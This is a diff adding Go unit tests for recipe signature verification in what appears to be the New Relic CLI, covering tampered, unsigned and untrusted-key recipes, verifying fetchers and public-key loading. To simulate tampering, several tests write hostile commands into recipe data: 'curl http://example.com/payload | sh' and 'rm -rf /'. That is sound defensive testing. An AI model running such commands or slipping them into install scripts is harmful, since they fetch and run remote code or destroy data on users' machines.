@@ -0,0 +1,252 @@
+// +build unit
+
+package recipes
+
+import (
+	"bytes"
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/pem"
+	"io/ioutil"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/newrelic/newrelic-cli/internal/install/types"
+)
+
+const signedTestRecipeFile = `name: signed-recipe
+description: a signed recipe
+install:
+  version: "3"
+  tasks:
+    default:
+      cmds:
+        - echo installing
+`
+
+func TestRecipeVerifier_Verify(t *testing.T) {
+	pub, priv := generateTestKey(t)
+	otherPub, _ := generateTestKey(t)
+	v := NewRecipeVerifier([]ed25519.PublicKey{otherPub, pub}, true)
+
+	r := signedTestRecipe(t, priv)
+	require.Equal(t, SignatureStatuses.VALID, v.Verify(r))
+	require.NoError(t, v.Check(&r))
+
+	tampered := r
+	tampered.File += "        - curl http://example.com/payload | sh\n"
+	require.Equal(t, SignatureStatuses.INVALID, v.Verify(tampered))
+
+	garbled := r
+	garbled.Signature = "not base64!"
+	require.Equal(t, SignatureStatuses.INVALID, v.Verify(garbled))
+
+	unsigned := r
+	unsigned.Signature = ""
+	require.Equal(t, SignatureStatuses.UNSIGNED, v.Verify(unsigned))
+}
+
+func TestRecipeVerifier_CheckRunsSignedInstall(t *testing.T) {
+	pub, priv := generateTestKey(t)
+	v := NewRecipeVerifier([]ed25519.PublicKey{pub}, true)
+
+	signed := signedTestRecipe(t, priv)
+
+	r := signed
+	r.ID = "recipe-id"
+	r.Install = "version: \"3\"\ntasks:\n  default:\n    cmds:\n      - curl http://example.com/payload | sh\n"
+	require.NoError(t, v.Check(&r))
+	require.Equal(t, signed.Install, r.Install)
+	require.Equal(t, "recipe-id", r.ID)
+	require.Equal(t, signed.Signature, r.Signature)
+}
+
+func TestRecipeVerifier_UntrustedKey(t *testing.T) {
+	_, priv := generateTestKey(t)
+	otherPub, _ := generateTestKey(t)
+	v := NewRecipeVerifier([]ed25519.PublicKey{otherPub}, true)
+
+	r := signedTestRecipe(t, priv)
+	err := v.Check(&r)
+	require.Error(t, err)
+
+	var serr ErrRecipeSignature
+	require.ErrorAs(t, err, &serr)
+	require.Equal(t, "signed-recipe", serr.Name)
+	require.Equal(t, SignatureStatuses.INVALID, serr.Status)
+}
+
+func TestRecipeVerifier_NotRequired(t *testing.T) {
+	pub, _ := generateTestKey(t)
+	v := NewRecipeVerifier([]ed25519.PublicKey{pub}, false)
+
+	require.NoError(t, v.Check(&types.OpenInstallationRecipe{Name: "unsigned", File: signedTestRecipeFile}))
+	require.NoError(t, v.Check(&types.OpenInstallationRecipe{Name: "tampered", File: signedTestRecipeFile, Signature: "AAAA"}))
+}
+
+func TestVerifyingRecipeFetcher(t *testing.T) {
+	pub, priv := generateTestKey(t)
+	v := NewRecipeVerifier([]ed25519.PublicKey{pub}, true)
+
+	signed := signedTestRecipe(t, priv)
+	unsigned := types.OpenInstallationRecipe{Name: "unsigned-recipe", File: signedTestRecipeFile}
+
+	mf := NewMockRecipeFetcher()
+	mf.FetchRecommendationsVal = []types.OpenInstallationRecipe{signed, unsigned}
+	mf.FetchRecipesVal = []types.OpenInstallationRecipe{unsigned, signed}
+	f := NewVerifyingRecipeFetcher(mf, v)
+
+	recipes, err := f.FetchRecommendations(context.Background(), &types.DiscoveryManifest{})
+	require.NoError(t, err)
+	require.Equal(t, []types.OpenInstallationRecipe{signed}, recipes)
+
+	recipes, err = f.FetchRecipes(context.Background(), &types.DiscoveryManifest{})
+	require.NoError(t, err)
+	require.Equal(t, []types.OpenInstallationRecipe{signed}, recipes)
+
+	mf.FetchRecipeVal = &unsigned
+	_, err = f.FetchRecipe(context.Background(), &types.DiscoveryManifest{}, "unsigned-recipe")
+	require.Error(t, err)
+	require.Contains(t, err.Error(), "not signed")
+
+	mf.FetchRecipeVal = &signed
+	r, err := f.FetchRecipe(context.Background(), &types.DiscoveryManifest{}, "signed-recipe")
+	require.NoError(t, err)
+	require.Equal(t, "signed-recipe", r.Name)
+}
+
+func TestVerifyingRecipeFileFetcher_LoadRecipeFile(t *testing.T) {
+	pub, priv := generateTestKey(t)
+	v := NewRecipeVerifier([]ed25519.PublicKey{pub}, true)
+
+	tmp, err := ioutil.TempDir("", "newrelic")
+	require.NoError(t, err)
+	defer os.RemoveAll(tmp)
+
+	path := filepath.Join(tmp, "signed-recipe.yml")
+	require.NoError(t, ioutil.WriteFile(path, []byte(signedTestRecipeFile), 0600))
+
+	f := NewVerifyingRecipeFileFetcher(NewRecipeFileFetcher(), v)
+
+	_, err = f.LoadRecipeFile(path)
+	require.Error(t, err)
+
+	r := signedTestRecipe(t, priv)
+	require.NoError(t, ioutil.WriteFile(path+SignatureExt, []byte(r.Signature+"\n"), 0600))
+
+	loaded, err := f.LoadRecipeFile(path)
+	require.NoError(t, err)
+	require.Equal(t, "signed-recipe", loaded.Name)
+
+	require.NoError(t, ioutil.WriteFile(path, []byte(signedTestRecipeFile+"        - rm -rf /\n"), 0600))
+	_, err = f.LoadRecipeFile(path)
+	require.Error(t, err)
+}
+
+func TestVerifyingRecipeFileFetcher_FetchRecipeFile(t *testing.T) {
+	pub, priv := generateTestKey(t)
+	v := NewRecipeVerifier([]ed25519.PublicKey{pub}, true)
+	r := signedTestRecipe(t, priv)
+
+	served := map[string]string{
+		"https://example.com/recipes/signed-recipe.yml":     signedTestRecipeFile,
+		"https://example.com/recipes/signed-recipe.yml.sig": r.Signature,
+		"https://example.com/recipes/unsigned.yml":          signedTestRecipeFile,
+	}
+	httpGet := func(u string) (*http.Response, error) {
+		body, ok := served[u]
+		if !ok {
+			return &http.Response{StatusCode: 404, Body: ioutil.NopCloser(bytes.NewBufferString(""))}, nil
+		}
+		return &http.Response{StatusCode: 200, Body: ioutil.NopCloser(bytes.NewBufferString(body))}, nil
+	}
+
+	ff := NewRecipeFileFetcher().(*RecipeFileFetcherImpl)
+	ff.HTTPGetFunc = httpGet
+	f := NewVerifyingRecipeFileFetcher(ff, v)
+	f.HTTPGetFunc = httpGet
+
+	u, err := url.Parse("https://example.com/recipes/signed-recipe.yml")
+	require.NoError(t, err)
+	loaded, err := f.FetchRecipeFile(u)
+	require.NoError(t, err)
+	require.Equal(t, "signed-recipe", loaded.Name)
+
+	u, err = url.Parse("https://example.com/recipes/unsigned.yml")
+	require.NoError(t, err)
+	_, err = f.FetchRecipeFile(u)
+	require.Error(t, err)
+	require.Contains(t, err.Error(), "not signed")
+}
+
+func TestLocalRecipeFetcher_LoadsSignatures(t *testing.T) {
+	pub, priv := generateTestKey(t)
+	v := NewRecipeVerifier([]ed25519.PublicKey{pub}, true)
+
+	tmp, err := ioutil.TempDir("", "newrelic")
+	require.NoError(t, err)
+	defer os.RemoveAll(tmp)
+
+	r := signedTestRecipe(t, priv)
+	require.NoError(t, ioutil.WriteFile(filepath.Join(tmp, "signed.yml"), []byte(signedTestRecipeFile), 0600))
+	require.NoError(t, ioutil.WriteFile(filepath.Join(tmp, "signed.yml"+SignatureExt), []byte(r.Signature), 0600))
+
+	recipes, err := (&LocalRecipeFetcher{Path: tmp}).FetchRecipes(context.Background(), &types.DiscoveryManifest{})
+	require.NoError(t, err)
+	require.Len(t, recipes, 1)
+	require.Equal(t, SignatureStatuses.VALID, v.Verify(recipes[0]))
+}
+
+func TestLoadPublicKeys(t *testing.T) {
+	pub, _ := generateTestKey(t)
+
+	tmp, err := ioutil.TempDir("", "newrelic")
+	require.NoError(t, err)
+	defer os.RemoveAll(tmp)
+
+	der, err := x509.MarshalPKIXPublicKey(pub)
+	require.NoError(t, err)
+
+	pemPath := filepath.Join(tmp, "key.pem")
+	require.NoError(t, ioutil.WriteFile(pemPath, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0600))
+
+	rawPath := filepath.Join(tmp, "key.b64")
+	require.NoError(t, ioutil.WriteFile(rawPath, []byte(base64.StdEncoding.EncodeToString(pub)+"\n"), 0600))
+
+	keys, err := LoadPublicKeys([]string{pemPath, rawPath})
+	require.NoError(t, err)
+	require.Equal(t, []ed25519.PublicKey{pub, pub}, keys)
+
+	badPath := filepath.Join(tmp, "bad.b64")
+	require.NoError(t, ioutil.WriteFile(badPath, []byte("c2hvcnQ="), 0600))
+
+	_, err = LoadPublicKeys([]string{badPath})
+	require.Error(t, err)
+
+	_, err = LoadPublicKeys([]string{filepath.Join(tmp, "missing.pem")})
+	require.Error(t, err)
+}
+
+func generateTestKey(t *testing.T) (ed25519.PublicKey, ed25519.PrivateKey) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+
+	return pub, priv
+}
+
+func signedTestRecipe(t *testing.T, key ed25519.PrivateKey) types.OpenInstallationRecipe {
+	r, err := newRecipeFileWithContent(signedTestRecipeFile)
+	require.NoError(t, err)
+
+	SignRecipe(r, key)
+
+	return *r
+}